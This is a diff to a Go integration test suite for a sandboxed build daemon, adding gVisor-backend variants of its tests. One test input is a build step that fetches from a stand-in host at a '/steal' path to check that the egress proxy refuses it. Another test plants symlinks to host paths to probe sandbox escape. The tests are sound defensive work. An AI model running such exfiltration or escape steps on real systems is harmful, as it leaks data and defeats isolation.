@@ -5,6 +5,7 @@ import (
 	"bytes"
 	"context"
 	"crypto/rand"
+	"debug/elf"
 	"encoding/hex"
 	"errors"
 	"fmt"
@@ -15,6 +16,7 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"slices"
 	"strconv"
 	"strings"
 	"sync"
@@ -28,6 +30,8 @@ import (
 	"github.com/airlock-dev/airlock/internal/manager"
 	"github.com/airlock-dev/airlock/internal/policy"
 	"github.com/airlock-dev/airlock/internal/redact"
+	"github.com/airlock-dev/airlock/internal/runtime"
+	"github.com/airlock-dev/airlock/internal/runtime/gvisor"
 	"github.com/airlock-dev/airlock/internal/runtime/native"
 	"github.com/airlock-dev/airlock/internal/store"
 	"github.com/airlock-dev/airlock/internal/template"
@@ -38,6 +42,7 @@ import (
 )
 
 func TestMain(m *testing.M) {
+	gvisor.MaybeInit()
 	native.MaybeInit()
 	os.Exit(m.Run())
 }
@@ -187,17 +192,18 @@ func baseRoot(t testing.TB) []byte {
 }
 
 type rig struct {
-	t     testing.TB
-	tpls  *template.Store
-	stk   *stack.Stack
-	log   *audit.Log
-	net   *fakeNet
-	reg   string // the registry's host:port (the "npm" preset's)
-	sec   string // the TLS registry's (the preset's too)
-	hits  chan string
-	dir   string
-	ctxOK string // a context directory
-	be    *native.Backend
+	t       testing.TB
+	tpls    *template.Store
+	stk     *stack.Stack
+	log     *audit.Log
+	net     *fakeNet
+	reg     string // the registry's host:port (the "npm" preset's)
+	sec     string // the TLS registry's (the preset's too)
+	hits    chan string
+	dir     string
+	ctxOK   string          // a context directory
+	be      *native.Backend // nil on gVisor
+	backend string
 }
 
 // The daemon's policy: allow what the steps run but hold "t hold" and
@@ -213,13 +219,16 @@ egress:
     - {id: test-upstream, action: allow, cidrs: [127.0.0.1/32], ports: [PORT, TLSPORT]}
 `
 
-func newRig(t testing.TB) *rig {
+func newRig(t testing.TB) *rig { return newRigOn(t, "native") }
+
+// newRigOn is the rig on backend "native" or "gvisor".
+func newRigOn(t testing.TB, backend string) *rig {
 	t.Helper()
 	testroot.Need(t, "layers are unpacked as host root and steps run in native sandboxes")
 	dir := t.TempDir()
 	_ = os.Chmod(dir, 0o711)
 	_ = os.Chmod(filepath.Dir(dir), 0o711)
-	r := &rig{t: t, dir: dir, hits: make(chan string, 64)}
+	r := &rig{t: t, dir: dir, hits: make(chan string, 64), backend: backend}
 	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
 		r.hits <- req.URL.Path
 		fmt.Fprintf(w, "package %s", req.URL.Path)
@@ -236,11 +245,26 @@ func newRig(t testing.TB) *rig {
 	r.sec = "sec.example.test:" + strconv.Itoa(tlsPort)
 	var rb [4]byte
 	_, _ = rand.Read(rb[:])
-	be, err := native.New(native.Config{StateDir: filepath.Join(dir, "state"), CgroupParent: "airlock-tbuild-" + hex.EncodeToString(rb[:]), DieWithOwner: true})
-	if err != nil {
-		testroot.Unavailable(t, "the native backend: "+err.Error())
+	type census interface {
+		runtime.Backend
+		RemoveCgroupParent() error
 	}
-	r.be = be
+	var be census
+	cg := "airlock-tbuild-" + hex.EncodeToString(rb[:])
+	if backend == "gvisor" {
+		g, err := gvisor.New(gvisor.Config{StateDir: filepath.Join(dir, "state"), CgroupParent: cg, DieWithOwner: true})
+		if err != nil {
+			testroot.Unavailable(t, "the gVisor backend: "+err.Error())
+		}
+		be = g
+	} else {
+		n, err := native.New(native.Config{StateDir: filepath.Join(dir, "state"), CgroupParent: cg, DieWithOwner: true})
+		if err != nil {
+			testroot.Unavailable(t, "the native backend: "+err.Error())
+		}
+		be, r.be = n, n
+	}
+	var err error
 	if r.tpls, err = template.Open(filepath.Join(dir, "templates")); err != nil {
 		t.Fatal(err)
 	}
@@ -276,8 +300,10 @@ func newRig(t testing.TB) *rig {
 	t.Cleanup(func() {
 		_ = r.stk.Manager.Shutdown(context.Background())
 		_ = st.Close()
-		if c, err := be.Census(); err == nil && (c.StateDirs != 0 || c.Cgroups != 0 || c.Mounts != 0) {
-			t.Errorf("leftovers after the test: %+v", c)
+		if r.be != nil {
+			if c, err := r.be.Census(); err == nil && (c.StateDirs != 0 || c.Cgroups != 0 || c.Mounts != 0) {
+				t.Errorf("leftovers after the test: %+v", c)
+			}
 		}
 		_ = be.RemoveCgroupParent()
 	})
@@ -322,8 +348,27 @@ func hasKind(evs []*audit.Event, kind, needle string) bool {
 // daemon's proxy; the step's sandbox and exec are on the audit log with
 // the build's label, and the template's record names what was fetched
 // (host, path, bytes). A cached rebuild records the same provenance.
-func TestBuildThroughTheDaemon(t *testing.T) {
-	r := newRig(t)
+func TestBuildThroughTheDaemon(t *testing.T) { buildThroughTheDaemon(t, newRig(t)) }
+
+// The same on gVisor (its agent is loaded from the image's root: the
+// test binary must be static, CGO_ENABLED=0, as airlock is).
+func TestBuildThroughTheDaemonGVisor(t *testing.T) { buildThroughTheDaemon(t, gvisorRig(t)) }
+
+// gvisorRig is the rig on gVisor, which loads its agent from the image's
+// root: a dynamically linked test binary (cgo) is refused there, so the
+// gVisor variants need CGO_ENABLED=0, as airlock's own build has.
+func gvisorRig(t *testing.T) *rig {
+	if exe, err := elf.Open("/proc/self/exe"); err == nil {
+		dynamic := slices.ContainsFunc(exe.Progs, func(p *elf.Prog) bool { return p.Type == elf.PT_INTERP })
+		exe.Close()
+		if dynamic {
+			t.Skip("the test binary is dynamically linked and gVisor refuses it as the agent of an image template: run with CGO_ENABLED=0")
+		}
+	}
+	return newRigOn(t, "gvisor")
+}
+
+func buildThroughTheDaemon(t *testing.T, r *rig) {
 	src := "FROM base\negress: npm\nRUN t fetch http://" + r.reg + "/left-pad/-/left-pad-1.3.0.tgz > /workspace/pkg.tgz\n"
 	res, lines, err := r.build("withpkg", src)
 	if err != nil {
@@ -345,7 +390,7 @@ func TestBuildThroughTheDaemon(t *testing.T) {
 		t.Errorf("fetched: %+v", f)
 	}
 	evs := r.events(step.Sandbox)
-	if !hasKind(evs, "sandbox.create", `"airlock.build":"withpkg"`) || !hasKind(evs, "exec.start", step.Exec) || !hasKind(evs, "egress.request", "left-pad") {
+	if !hasKind(evs, "sandbox.create", `"backend":"`+r.backend+`"`) || !hasKind(evs, "sandbox.create", `"airlock.build":"withpkg"`) || !hasKind(evs, "exec.start", step.Exec) || !hasKind(evs, "egress.request", "left-pad") {
 		var kinds []string
 		for _, e := range evs {
 			kinds = append(kinds, e.Kind+" "+string(e.Payload))
@@ -380,8 +425,11 @@ func TestBuildThroughTheDaemon(t *testing.T) {
 // registry without the egress: section). The proxy refuses both before
 // any dial, the build fails and leaves no template, and the refusals are
 // the audit log's.
-func TestBuildEgressOutsideThePreset(t *testing.T) {
-	r := newRig(t)
+func TestBuildEgressOutsideThePreset(t *testing.T) { egressOutsideThePreset(t, newRig(t)) }
+
+func TestBuildEgressOutsideThePresetGVisor(t *testing.T) { egressOutsideThePreset(t, gvisorRig(t)) }
+
+func egressOutsideThePreset(t *testing.T, r *rig) {
 	port := strings.Split(r.reg, ":")[1]
 	for name, src := range map[string]string{
 		"other":     "FROM base\negress: npm\nRUN t fetch http://exfil.example.test:" + port + "/steal\n",
@@ -445,8 +493,13 @@ func TestBuildPolicyRefusals(t *testing.T) {
 // sandbox's /etc, /tmp), plants symlinks to the host's paths, and writes
 // through them; the template has only its two trees (the symlinks as
 // symlinks), and nothing reached the host.
-func TestBuildRunWritesOutsideItsLayer(t *testing.T) {
-	r := newRig(t)
+func TestBuildRunWritesOutsideItsLayer(t *testing.T) { runWritesOutsideItsLayer(t, newRig(t)) }
+
+func TestBuildRunWritesOutsideItsLayerGVisor(t *testing.T) {
+	runWritesOutsideItsLayer(t, gvisorRig(t))
+}
+
+func runWritesOutsideItsLayer(t *testing.T, r *rig) {
 	var nb [6]byte
 	_, _ = rand.Read(nb[:])
 	mark := "airlock-tbuild-" + hex.EncodeToString(nb[:])
